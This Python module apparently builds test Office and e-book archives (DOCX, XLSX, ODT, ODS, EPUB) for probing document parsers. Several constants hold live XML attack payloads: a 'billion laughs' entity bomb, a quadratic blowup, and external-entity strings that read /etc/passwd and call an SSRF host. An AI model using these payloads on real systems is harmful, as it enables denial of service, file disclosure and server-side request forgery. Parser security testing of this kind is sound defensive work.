"""The parts that Office files and e-books are put together from."""

from .archives import Zip
from .writing import CANARY, SSRF

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
XMLH = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
CT_DOCX = XMLH + (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
    '<Default Extension="bin" ContentType="application/octet-stream"/><Default Extension="zip" ContentType="application/zip"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
RELS_DOCX = XMLH + (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)


def wdoc(body, pre="", attrs=""):
    return (XMLH + pre + f"<w:document {W} {R} {attrs}><w:body>{body}</w:body></w:document>").encode()


def wp(t):
    return f'<w:p><w:r><w:t xml:space="preserve">{t}</w:t></w:r></w:p>'


def docx(document=None, extra=(), ct=CT_DOCX, rels=RELS_DOCX, raw=None, first=()):
    z = Zip()
    for n, d in first:
        z.add(n, d)
    if ct is not None:
        z.add("[Content_Types].xml", ct.encode())
    if rels is not None:
        z.add("_rels/.rels", rels.encode())
    if raw is not None:
        z.add("word/document.xml", raw=raw)
    elif document is not None:
        z.add("word/document.xml", document)
    for e in extra:
        if callable(e):
            e(z)
        else:
            z.add(*e)
    return z.end()


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join('<!ENTITY lol%d "%s">' % (i, ("&lol%s;" % ("" if i == 1 else i - 1)) * 10) for i in range(1, 11))
    + "]>"
)
QUAD = '<!DOCTYPE q [<!ENTITY a "' + "a" * 100000 + '">]>'
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "' + SSRF + '/dtd"> %p;]>'
XXE_H = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "' + SSRF + '/ent">]>'
CT_XLSX = (
    CT_DOCX.replace("/word/document.xml", "/xl/workbook.xml")
    .replace("wordprocessingml.document.main", "spreadsheetml.sheet.main")
    .replace(
        "</Types>",
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
)
SS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def xlsx(sheet, shared=None, sheet_raw=None, shared_raw=None):
    z = Zip()
    z.add("[Content_Types].xml", CT_XLSX.encode())
    z.add("_rels/.rels", RELS_DOCX.replace("word/document.xml", "xl/workbook.xml").encode())
    z.add(
        "xl/workbook.xml",
        (XMLH + f'<workbook {SS} {R}><sheets><sheet name="S1" sheetId="1" r:id="rId1"/></sheets></workbook>').encode(),
    )
    z.add(
        "xl/_rels/workbook.xml.rels",
        (
            XMLH + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
        ).encode(),
    )
    if sheet_raw:
        z.add("xl/worksheets/sheet1.xml", raw=sheet_raw)
    else:
        z.add("xl/worksheets/sheet1.xml", (XMLH + sheet).encode())
    if shared_raw:
        z.add("xl/sharedStrings.xml", raw=shared_raw)
    else:
        z.add(
            "xl/sharedStrings.xml",
            (XMLH + (shared or f'<sst {SS} count="1" uniqueCount="1"><si><t>{CANARY}</t></si></sst>')).encode(),
        )
    return z.end()


def odf(mime, content, extra=()):
    z = Zip()
    z.add("mimetype", mime.encode(), method=0)
    z.add(
        "META-INF/manifest.xml",
        (
            XMLH + '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
        ).encode(),
    )
    z.add("content.xml", content.encode())
    for e in extra:
        z.add(*e)
    return z.end()


ODFNS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
)
ODT, ODS = "application/vnd.oasis.opendocument.text", "application/vnd.oasis.opendocument.spreadsheet"


def odt(body, pre=""):
    return odf(
        ODT,
        XMLH
        + pre
        + f'<office:document-content {ODFNS} office:version="1.2"><office:body><office:text>{body}</office:text></office:body></office:document-content>',
    )


def ods(rows, pre=""):
    return odf(
        ODS,
        XMLH + pre + f'<office:document-content {ODFNS} office:version="1.2"><office:body><office:spreadsheet>'
        f'<table:table table:name="S">{rows}</table:table></office:spreadsheet></office:body></office:document-content>',
    )


def epub(opf_pre="", manifest="", spine="", files=(), container_pre="", title="T", enc=None):
    z = Zip()
    z.add("mimetype", b"application/epub+zip", method=0)
    z.add(
        "META-INF/container.xml",
        (
            XMLH + container_pre + '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
            '<rootfiles><rootfile full-path="OEBPS/c.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
        ).encode(),
    )
    if enc:
        z.add("META-INF/encryption.xml", enc.encode())
    z.add(
        "OEBPS/c.opf",
        (
            XMLH + opf_pre + '<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i">'
            '<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="i">x</dc:identifier>'
            f"<dc:title>{title}</dc:title><dc:language>en</dc:language></metadata><manifest>{manifest}"
            f"</manifest><spine>{spine}</spine></package>"
        ).encode(),
    )
    for f in files:
        z.add(*f)
    return z.end()
